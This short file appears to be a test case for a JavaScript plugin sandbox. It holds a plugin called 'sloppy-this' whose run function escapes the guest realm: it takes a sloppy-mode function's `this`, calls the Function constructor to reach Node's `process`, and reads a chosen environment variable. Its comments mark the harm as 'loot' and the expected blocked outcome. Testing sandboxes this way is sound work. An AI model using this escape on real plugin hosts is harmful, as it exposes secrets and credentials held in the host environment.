// `this` of a sloppy function is the global object, which the host made.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'sloppy-this', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'sloppy-this' } } } },
  run(context) {
    const realm = (function () { return this; })();
    const take = realm.constructor.constructor('return process')();
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
